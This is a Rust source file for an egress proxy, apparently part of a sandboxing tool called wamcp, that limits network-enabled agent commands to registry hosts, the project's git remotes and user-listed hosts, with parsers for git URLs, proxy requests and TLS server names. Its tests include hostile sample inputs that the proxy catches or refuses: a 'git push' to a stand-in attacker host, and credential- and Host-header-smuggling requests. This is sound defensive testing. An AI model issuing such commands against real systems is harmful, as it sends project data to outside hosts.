//! Where a command with the network may connect: the hosts the project
//! uses, and nothing else.
//!
//! A command granted the network reaches the outside only through wamcp's
//! egress proxy; these are the proxy's decisions. The hosts are the
//! registries of the ecosystems the grammars know, the hosts of the git
//! remotes the project had when wamcp first saw it (a remote the agent adds
//! later is not one of them), and the ones the user lists.

use crate::hosts::normalize_host;

/// Package registries and the forges that serve git and releases.
pub const REGISTRY_HOSTS: &[&str] = &[
    "crates.io",
    "index.crates.io",
    "static.crates.io",
    "static.rust-lang.org",
    "pypi.org",
    "files.pythonhosted.org",
    "registry.npmjs.org",
    "registry.yarnpkg.com",
    "api.nuget.org",
    "globalcdn.nuget.org",
    "github.com",
    "api.github.com",
    "codeload.github.com",
    "objects.githubusercontent.com",
    "raw.githubusercontent.com",
    "release-assets.githubusercontent.com",
    "gitlab.com",
];

/// The host a git remote URL names: `https://host/...`, `ssh://user@host:22/...`
/// and scp-like `user@host:path`. `None` for local paths and `file:` URLs.
pub fn host_of_git_url(url: &str) -> Option<String> {
    endpoint_of_git_url(url).map(|(host, _)| host)
}

/// The ports a listed host is reached at unless the user listed it or a
/// remote names another: the web's and SSH's. A project's hosts are
/// services on those ports; any port of an intranet host or of loopback
/// would be every service there.
pub const STANDARD_PORTS: [u16; 3] = [80, 443, 22];

/// The port a git URL's scheme implies when it names none.
fn default_port(scheme: &str) -> u16 {
    match scheme {
        "http" => 80,
        "git" => 9418,
        s if s.contains("ssh") => 22,
        _ => 443,
    }
}

/// The host and port a git remote URL reaches: the port it names, else
/// its scheme's (22 for scp-like `user@host:path`).
pub fn endpoint_of_git_url(url: &str) -> Option<(String, u16)> {
    let url = url.trim();
    let (authority, scheme) = match url.split_once("://") {
        Some((scheme, rest)) => {
            let scheme = scheme.to_ascii_lowercase();
            if scheme == "file"
                || !scheme
                    .chars()
                    .all(|c| c.is_ascii_alphanumeric() || "+-.".contains(c))
            {
                return None;
            }
            (rest.split(['/', '?', '#']).next()?, scheme)
        }
        None => {
            // scp-like: a colon before any slash, and not a drive letter.
            let (before, _) = url.split_once(':')?;
            if before.contains('/') || before.len() < 2 {
                return None;
            }
            return Some((normalize_host(before.rsplit('@').next()?).ok()?, 22));
        }
    };
    let host_port = authority.rsplit('@').next()?;
    let (host, port) = match host_port.strip_prefix('[') {
        Some(bracketed) => {
            let (host, after) = bracketed.split_once(']')?;
            (host, after.strip_prefix(':'))
        }
        None => match host_port.split_once(':') {
            Some((host, port)) => (host, Some(port)),
            None => (host_port, None),
        },
    };
    let port = match port.filter(|p| !p.is_empty()) {
        Some(port) => port.parse().ok()?,
        None => default_port(&scheme),
    };
    Some((normalize_host(host).ok()?, port))
}

/// The hosts and ports the arguments of a command name as URLs
/// (`git push https://other/x.git`, `pip install --index-url URL`,
/// `npm install --registry=URL`, `cargo install --config
/// 'registries.x.index="sparse+https://h/"'`), each once: where a command
/// with the network is headed, before it runs. git's scp-like form
/// (`git@host:path`) counts for git only; any other program needs a
/// scheme, so `pkg@1.0` or `C:/x` is no host.
pub fn named_endpoints(program: &str, args: &[String]) -> Vec<(String, u16)> {
    let git = crate::command::rules::program_name(program) == "git";
    let mut found: Vec<(String, u16)> = Vec::new();
    for arg in args {
        for candidate in url_candidates(arg) {
            let scp_like = !candidate.contains("://");
            if scp_like && (!git || candidate.starts_with('-')) {
                continue;
            }
            if let Some(endpoint) = endpoint_of_git_url(candidate)
                && !found.contains(&endpoint)
            {
                found.push(endpoint);
            }
        }
    }
    found
}

/// The parts of an argument that may be URLs: the argument, the value of
/// `--flag=value`, and every `scheme://...` inside it (a URL quoted in a
/// `--config` value).
fn url_candidates(arg: &str) -> Vec<&str> {
    let mut out = vec![arg];
    if arg.starts_with('-')
        && let Some((_, value)) = arg.split_once('=')
    {
        out.push(value);
    }
    for (at, _) in arg.match_indices("://") {
        let start = arg[..at]
            .rfind(|c: char| !(c.is_ascii_alphanumeric() || "+-.".contains(c)))
            .map_or(0, |i| i + 1);
        let end = arg[at..]
            .find(['"', '\'', ' ', ','])
            .map_or(arg.len(), |i| at + i);
        out.push(&arg[start..end]);
    }
    out
}

/// The hosts and ports of the remotes (`url` and `pushurl`) a
/// repository's `.git/config` names, in order, each once.
pub fn remote_hosts(config: &str) -> Vec<(String, u16)> {
    let mut hosts: Vec<(String, u16)> = Vec::new();
    let mut in_remote = false;
    for line in config.lines() {
        let line = line.trim();
        if line.starts_with('[') {
            in_remote = line.to_ascii_lowercase().starts_with("[remote ");
            continue;
        }
        let Some((key, value)) = line.split_once('=') else {
            continue;
        };
        let key = key.trim().to_ascii_lowercase();
        if in_remote && (key == "url" || key == "pushurl") {
            let value = value.trim().trim_matches('"');
            if let Some(host) = endpoint_of_git_url(value)
                && !hosts.contains(&host)
            {
                hosts.push(host);
            }
        }
    }
    hosts
}

/// What a client asked the proxy for.
#[derive(Debug, PartialEq, Eq)]
pub struct ProxyRequest {
    /// The host, lower-case, without brackets.
    pub host: String,
    /// The port (80 when an http:// URL leaves it out).
    pub port: u16,
    /// `CONNECT`: a tunnel. Otherwise a plain HTTP request, whose head
    /// [`ProxyRequest::origin_head`] holds rewritten for the server.
    pub tunnel: bool,
    /// For plain HTTP: the request head in origin form, the proxy's own
    /// headers dropped and `Connection: close` set (one request per
    /// connection, so a second request cannot name another host).
    pub origin_head: Option<String>,
}

/// Reads a request head (up to the blank line) sent to the proxy: a
/// `CONNECT host:port` or an absolute-form `http://` request.
pub fn parse_request(head: &str) -> Result<ProxyRequest, String> {
    let mut lines = head.split("\r\n");
    let first = lines.next().unwrap_or("");
    let mut parts = first.split(' ');
    let (Some(method), Some(target), Some(version), None) =
        (parts.next(), parts.next(), parts.next(), parts.next())
    else {
        return Err(format!("'{first}' is not an HTTP request line"));
    };
    if !version.starts_with("HTTP/1.") {
        return Err(format!("{version} is not HTTP/1.x"));
    }
    if method.eq_ignore_ascii_case("CONNECT") {
        let (host, port) = split_authority(target, None)?;
        return Ok(ProxyRequest {
            host,
            port,
            tunnel: true,
            origin_head: None,
        });
    }
    let Some(rest) = target
        .get(..7)
        .filter(|s| s.eq_ignore_ascii_case("http://"))
        .map(|_| &target[7..])
    else {
        return Err(format!(
            "'{target}' is not an absolute http:// URL (HTTPS goes through CONNECT)"
        ));
    };
    let (authority, path) = match rest.find(['/', '?']) {
        Some(i) => (&rest[..i], &rest[i..]),
        None => (rest, "/"),
    };
    let (host, port) = split_authority(authority, Some(80))?;
    let path = if path.starts_with('?') {
        format!("/{path}")
    } else {
        path.to_string()
    };
    // The Host header is the target's: a shared front end (a CDN) routes
    // by it, so a different one would reach another customer's site.
    let host_header = match (host.contains(':'), port) {
        (true, 80) => format!("[{host}]"),
        (true, _) => format!("[{host}]:{port}"),
        (false, 80) => host.clone(),
        (false, _) => format!("{host}:{port}"),
    };
    let mut out = format!("{method} {path} {version}\r\nHost: {host_header}\r\n");
    for line in lines.filter(|l| !l.is_empty()) {
        let name = line
            .split(':')
            .next()
            .unwrap_or("")
            .trim()
            .to_ascii_lowercase();
        if name.starts_with("proxy-")
            || ["connection", "keep-alive", "host"].contains(&name.as_str())
        {
            continue;
        }
        out.push_str(line);
        out.push_str("\r\n");
    }
    out.push_str("Connection: close\r\n\r\n");
    Ok(ProxyRequest {
        host,
        port,
        tunnel: false,
        origin_head: Some(out),
    })
}

/// `host:port` (or `[v6]:port`), with `default` when the port is left out.
fn split_authority(authority: &str, default: Option<u16>) -> Result<(String, u16), String> {
    if authority.contains('@') {
        return Err("credentials in a proxy target are refused".into());
    }
    let (host, port) = match authority.strip_prefix('[') {
        Some(v6) => {
            let (host, after) = v6.split_once(']').ok_or("an unclosed [ in the host")?;
            (host, after.strip_prefix(':'))
        }
        None => match authority.rsplit_once(':') {
            Some((host, port)) => (host, Some(port)),
            None => (authority, None),
        },
    };
    let port = match (port, default) {
        (Some(p), _) => p
            .parse::<u16>()
            .ok()
            .filter(|p| *p != 0)
            .ok_or_else(|| format!("'{p}' is not a port"))?,
        (None, Some(d)) => d,
        (None, None) => return Err(format!("'{authority}' names no port")),
    };
    let host = match host.parse::<std::net::Ipv6Addr>() {
        Ok(v6) => v6.to_string(),
        Err(_) => normalize_host(host)?,
    };
    Ok((host, port))
}

/// What the first bytes a client sends through a tunnel say about where
/// it is headed.
#[derive(Debug, PartialEq, Eq)]
pub enum Opening {
    /// Not TLS (SSH, say): nothing to read a name from.
    NotTls,
    /// A TLS hello, cut short: at least this many bytes in all are needed.
    Incomplete(usize),
    /// A TLS hello naming this server (`None`: it names none).
    Hello(Option<String>),
    /// TLS that is no hello wamcp can read.
    Malformed,
}

/// Reads the server name (SNI) of a TLS ClientHello at the start of
/// `bytes`. A content delivery network routes a TLS connection by that
/// name, so a tunnel opened to a listed host that names another site
/// there would reach the other site.
pub fn tls_opening(bytes: &[u8]) -> Opening {
    if bytes.first() != Some(&0x16) {
        return match bytes.is_empty() {
            true => Opening::Incomplete(1),
            false => Opening::NotTls,
        };
    }
    let Some(header) = bytes.get(..5) else {
        return Opening::Incomplete(5);
    };
    let length = usize::from(u16::from_be_bytes([header[3], header[4]]));
    let Some(record) = bytes.get(5..5 + length) else {
        return Opening::Incomplete(5 + length);
    };
    client_hello_name(record).map_or(Opening::Malformed, Opening::Hello)
}

/// The host name of a ClientHello handshake message that fits in one
/// record; `None` inside when it names none, `None` outside when it is not
/// a well-formed hello.
fn client_hello_name(record: &[u8]) -> Option<Option<String>> {
    let mut r = Reader(record);
    if r.u8()? != 1 {
        return None;
    }
    let length = r.u24()?;
    let body = r.take(length)?;
    let mut r = Reader(body);
    r.take(2 + 32)?; // version, random
    let session = usize::from(r.u8()?);
    r.take(session)?;
    let suites = usize::from(r.u16()?);
    r.take(suites)?;
    let compression = usize::from(r.u8()?);
    r.take(compression)?;
    if r.0.is_empty() {
        return Some(None);
    }
    let extensions = usize::from(r.u16()?);
    let mut r = Reader(r.take(extensions)?);
    while !r.0.is_empty() {
        let kind = r.u16()?;
        let data = usize::from(r.u16()?);
        let data = r.take(data)?;
        if kind == 0 {
            return server_name(data).map(Some);
        }
    }
    Some(None)
}

/// The `host_name` entry of a server_name extension.
fn server_name(data: &[u8]) -> Option<String> {
    let mut r = Reader(data);
    let list = usize::from(r.u16()?);
    let mut r = Reader(r.take(list)?);
    while !r.0.is_empty() {
        let kind = r.u8()?;
        let length = usize::from(r.u16()?);
        let name = r.take(length)?;
        if kind == 0 {
            return std::str::from_utf8(name).ok().map(str::to_ascii_lowercase);
        }
    }
    None
}

/// Big-endian reads from the front of a slice.
struct Reader<'a>(&'a [u8]);

impl<'a> Reader<'a> {
    fn take(&mut self, n: usize) -> Option<&'a [u8]> {
        let (head, rest) = (self.0.get(..n)?, self.0.get(n..)?);
        self.0 = rest;
        Some(head)
    }

    fn u8(&mut self) -> Option<u8> {
        self.take(1).map(|b| b[0])
    }

    fn u16(&mut self) -> Option<u16> {
        self.take(2).map(|b| u16::from_be_bytes([b[0], b[1]]))
    }

    fn u24(&mut self) -> Option<usize> {
        self.take(3)
            .map(|b| usize::from(b[0]) << 16 | usize::from(b[1]) << 8 | usize::from(b[2]))
    }
}

/// Whether `host` is one of `allowed` (exact names, compared without case).
pub fn host_allowed(host: &str, allowed: &[String]) -> bool {
    allowed.iter().any(|a| a.eq_ignore_ascii_case(host))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn git_urls_name_their_hosts() {
        let cases = [
            ("https://github.com/o/r.git", Some("github.com")),
            ("https://user:tok@GitLab.com:8443/o/r", Some("gitlab.com")),
            ("ssh://git@example.org:2222/r.git", Some("example.org")),
            ("git@github.com:o/r.git", Some("github.com")),
            ("git://[::1]/r", None),
            ("http://127.0.0.1:8080/r.git", Some("127.0.0.1")),
            ("file:///srv/r.git", None),
            ("/srv/r.git", None),
            ("../r.git", None),
            ("C:\\repos\\r.git", None),
            ("C:/repos/r.git", None),
        ];
        for (url, host) in cases {
            assert_eq!(host_of_git_url(url).as_deref(), host, "{url}");
        }
    }

    #[test]
    fn arguments_name_where_a_command_is_headed() {
        let args = |s: &str| s.split(' ').map(String::from).collect::<Vec<_>>();
        // Program, arguments, and the hosts and ports they name.
        type Case = (&'static str, &'static str, &'static [(&'static str, u16)]);
        let cases: [Case; 9] = [
            (
                "git",
                "push https://evil.example/x.git HEAD",
                &[("evil.example", 443)],
            ),
            (
                "git",
                "remote add evil git@evil.example:o/r.git",
                &[("evil.example", 22)],
            ),
            (
                "/usr/bin/git",
                "clone ssh://h.example:2222/r",
                &[("h.example", 2222)],
            ),
            (
                "pip",
                "install --index-url=http://idx.example:8080/simple x",
                &[("idx.example", 8080)],
            ),
            (
                "npm",
                "install --registry https://reg.example/ left-pad",
                &[("reg.example", 443)],
            ),
            (
                "cargo",
                "install --config registries.x.index=\"sparse+https://c.example/i/\" x",
                &[("c.example", 443)],
            ),
            ("npm", "install left-pad@1.3.0 user@host:path", &[]),
            (
                "git",
                "push origin main ./local/path C:/x file:///srv/r.git",
                &[],
            ),
            ("git", "-c a=b fetch --all", &[]),
        ];
        for (program, line, expected) in cases {
            let found = named_endpoints(program, &args(line));
            let expected: Vec<(String, u16)> =
                expected.iter().map(|(h, p)| (h.to_string(), *p)).collect();
            assert_eq!(found, expected, "{program} {line}");
        }
    }

    /// A ClientHello with one cipher suite, an unrelated extension, and a
    /// server name when given.
    fn hello(name: Option<&str>) -> Vec<u8> {
        let mut extensions = vec![0x00, 0x17, 0x00, 0x00]; // extended master secret
        if let Some(name) = name {
            let entry = [
                &[0u8][..],
                &(name.len() as u16).to_be_bytes(),
                name.as_bytes(),
            ]
            .concat();
            let list = [&(entry.len() as u16).to_be_bytes()[..], &entry].concat();
            extensions.extend([0, 0]);
            extensions.extend((list.len() as u16).to_be_bytes());
            extensions.extend(list);
        }
        let mut body = vec![3, 3];
        body.extend([7u8; 32]);
        body.extend([0, 0, 2, 0x13, 0x01, 1, 0]);
        body.extend((extensions.len() as u16).to_be_bytes());
        body.extend(extensions);
        let mut handshake = vec![1];
        handshake.extend(&(body.len() as u32).to_be_bytes()[1..]);
        handshake.extend(body);
        let mut record = vec![0x16, 3, 1];
        record.extend((handshake.len() as u16).to_be_bytes());
        record.extend(handshake);
        record
    }

    #[test]
    fn a_tls_hello_names_its_server() {
        let named = hello(Some("Attacker.Example"));
        assert_eq!(
            tls_opening(&named),
            Opening::Hello(Some("attacker.example".into()))
        );
        assert_eq!(tls_opening(&hello(None)), Opening::Hello(None));
        assert_eq!(tls_opening(&named[..3]), Opening::Incomplete(5));
        assert_eq!(tls_opening(&named[..40]), Opening::Incomplete(named.len()));
        assert_eq!(tls_opening(b""), Opening::Incomplete(1));
        assert_eq!(tls_opening(b"SSH-2.0-OpenSSH_9.2\r\n"), Opening::NotTls);
        // A record that is no hello, and a hello whose lengths overrun.
        assert_eq!(tls_opening(&[0x16, 3, 1, 0, 2, 2, 0]), Opening::Malformed);
        let mut overrun = named.clone();
        overrun[7] = 0xff; // the handshake says it is longer than its record
        assert_eq!(tls_opening(&overrun), Opening::Malformed);
    }

    #[test]
    fn git_urls_name_their_ports() {
        let cases = [
            ("https://github.com/o/r.git", 443),
            ("https://user:tok@GitLab.com:8443/o/r", 8443),
            ("ssh://git@example.org:2222/r.git", 2222),
            ("ssh://git@example.org/r.git", 22),
            ("git+ssh://example.org/r.git", 22),
            ("git@github.com:o/r.git", 22),
            ("git://example.org/r", 9418),
            ("http://127.0.0.1:8080/r.git", 8080),
        ];
        for (url, port) in cases {
            assert_eq!(
                endpoint_of_git_url(url).map(|(_, p)| p),
                Some(port),
                "{url}"
            );
        }
        assert_eq!(endpoint_of_git_url("https://host:99999/r"), None);
        assert_eq!(endpoint_of_git_url("https://host:x/r"), None);
    }

    #[test]
    fn remote_hosts_come_from_remote_sections_only() {
        let config = "[core]\n\turl = https://not-a-remote.example/\n[remote \"origin\"]\n\turl = \
                      git@github.com:o/r.git\n\tfetch = +refs/heads/*:refs/remotes/origin/*\n[remote \
                      \"mirror\"]\n\tpushurl = https://mirror.example.org/r\n\turl = \
                      https://github.com/o/r\n[branch \"main\"]\n\tremote = origin\n";
        assert_eq!(
            remote_hosts(config),
            [
                ("github.com".to_string(), 22),
                ("mirror.example.org".to_string(), 443),
                ("github.com".to_string(), 443)
            ]
        );
    }

    #[test]
    fn connect_and_absolute_requests_parse() {
        let connect =
            parse_request("CONNECT github.com:443 HTTP/1.1\r\nHost: github.com:443\r\n\r\n");
        assert_eq!(
            connect,
            Ok(ProxyRequest {
                host: "github.com".into(),
                port: 443,
                tunnel: true,
                origin_head: None
            })
        );
        let plain = parse_request(
            "GET http://127.0.0.1:8080/r.git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: \
             attacker.example\r\nProxy-Connection: Keep-Alive\r\nConnection: keep-alive\r\nUser-Agent: git\r\n\r\n",
        )
        .unwrap();
        assert_eq!(
            (plain.host.as_str(), plain.port, plain.tunnel),
            ("127.0.0.1", 8080, false)
        );
        assert_eq!(
            plain.origin_head.unwrap(),
            "GET /r.git/info/refs?service=git-upload-pack HTTP/1.1\r\nHost: 127.0.0.1:8080\r\nUser-Agent: \
             git\r\nConnection: close\r\n\r\n"
        );
        let bare = parse_request("GET http://example.org HTTP/1.0\r\n\r\n").unwrap();
        assert_eq!(bare.port, 80);
        assert!(bare.origin_head.unwrap().starts_with("GET / HTTP/1.0\r\n"));
        let v6 = parse_request("CONNECT [::1]:22 HTTP/1.1\r\n\r\n").unwrap();
        assert_eq!((v6.host.as_str(), v6.port), ("::1", 22));
    }

    #[test]
    fn malformed_or_sneaky_requests_are_refused() {
        for head in [
            "",
            "GET /relative HTTP/1.1\r\n\r\n",
            "GET https://github.com/ HTTP/1.1\r\n\r\n",
            "CONNECT github.com HTTP/1.1\r\n\r\n",
            "CONNECT github.com:0 HTTP/1.1\r\n\r\n",
            "CONNECT github.com:99999 HTTP/1.1\r\n\r\n",
            "CONNECT user@evil.example:443 HTTP/1.1\r\n\r\n",
            "GET http://github.com@evil.example/ HTTP/1.1\r\n\r\n",
            "CONNECT evil example:443 HTTP/1.1\r\n\r\n",
            "CONNECT [::1:22 HTTP/1.1\r\n\r\n",
            "CONNECT a.b:443 SPDY/3\r\n\r\n",
            "GET http://exa_mple.org/ HTTP/1.1\r\n\r\n",
        ] {
            assert!(parse_request(head).is_err(), "{head:?}");
        }
    }

    #[test]
    fn only_listed_hosts_are_allowed() {
        let allowed = vec!["github.com".to_string(), "127.0.0.1".to_string()];
        assert!(host_allowed("GitHub.com", &allowed));
        assert!(host_allowed("127.0.0.1", &allowed));
        for refused in [
            "evil.example",
            "github.com.evil.example",
            "api.github.com",
            "127.0.0.2",
        ] {
            assert!(!host_allowed(refused, &allowed), "{refused}");
        }
    }
}
